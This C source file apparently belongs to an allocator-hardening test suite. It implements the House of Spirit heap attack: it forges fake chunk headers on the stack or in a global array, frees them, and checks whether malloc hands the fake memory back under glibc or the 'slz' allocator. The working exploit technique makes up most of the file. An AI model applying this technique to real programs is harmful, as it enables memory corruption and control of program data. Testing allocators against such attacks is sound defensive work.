/* house_of_spirit: free a fake chunk built on the stack or in .bss, then
 * make malloc() hand it out as a heap block.
 *
 * Goal: malloc() returns the fake chunk, memory the program keeps elsewhere
 * (a stack frame, a global), so that the program's next writes to "a new
 * block" overwrite that memory.
 *
 * The fake is shaped for both layouts at once: its first word is the size
 * word slz would read (64 bytes, the flags of a real chunk the attacker read
 * below a block), its second word holds 0x41, which is what glibc reads as
 * the size of a 64-byte chunk (and, for slz, a check word the attacker had
 * to guess); a second such header 64 bytes on stands for the next chunk.
 * The attacker frees the fake's payload, then asks for blocks that a
 * 64-byte chunk fits.
 *   house_of_spirit stack   the fake lies in main()'s stack frame
 *   house_of_spirit bss     the fake lies in a global array
 *   house_of_spirit full    the fake lies in a global array, and up to 300
 *                           blocks are asked for: enough to fill the
 *                           default one-page slz heap, after which the shim
 *                           sends small requests to glibc, which holds the
 *                           fake.
 * Under the shim a pointer outside the slz heaps is judged by the registry
 * of the blocks glibc served (issue 18): no block began at the fake, so the
 * free is reported before glibc sees it. glibc_side.c aims the same fake
 * at another thread's stack, a mapping and libc's data.
 */
#include "attacks.h"

static uintptr_t bss_fake[32] __attribute__((aligned(16)));

int main(int argc, char **argv)
{
    const char *where = argc > 1 ? argv[1] : "";
    uintptr_t stack_fake[32] __attribute__((aligned(16)));
    uintptr_t *fake;
    int asks_n = 5;
    if (IS(where, "stack"))
        fake = stack_fake;
    else if (IS(where, "full"))
        fake = bss_fake, asks_n = 300;
    else if (IS(where, "bss"))
        fake = bss_fake;
    else
        usage("house_of_spirit stack | bss | full\n");
    char *x = opaque(malloc(56)), *y = opaque(malloc(56));
    enum atk_layout l = need_layout(x, y);
    uintptr_t flags = l == LAYOUT_SLZ ? *size_word(x, l) & flag_bits(l) : 0;
    memset(fake, 0, sizeof stack_fake);
    fake[0] = 64 | flags;
    fake[1] = 0x41;
    fake[8] = 64 | flags;
    fake[9] = 0x41;
    char *mem = (char *)opaque(fake + 2);
    free(mem);
    static const size_t asks[] = {56, 56, 40, 48, 24};
    for (int i = 0; i < asks_n; i++) {
        size_t n = asks[i % (int)(sizeof asks / sizeof asks[0])];
        char *p = opaque(malloc(n));
        if (p && overlap(p, n, fake, sizeof stack_fake))
            reached("malloc(%zu) number %d returned %p, the fake chunk at %p in %s", n, i + 1, (void *)p,
                    (void *)mem, where);
    }
    not_reached("no malloc returned the fake chunk at %p", (void *)mem);
}
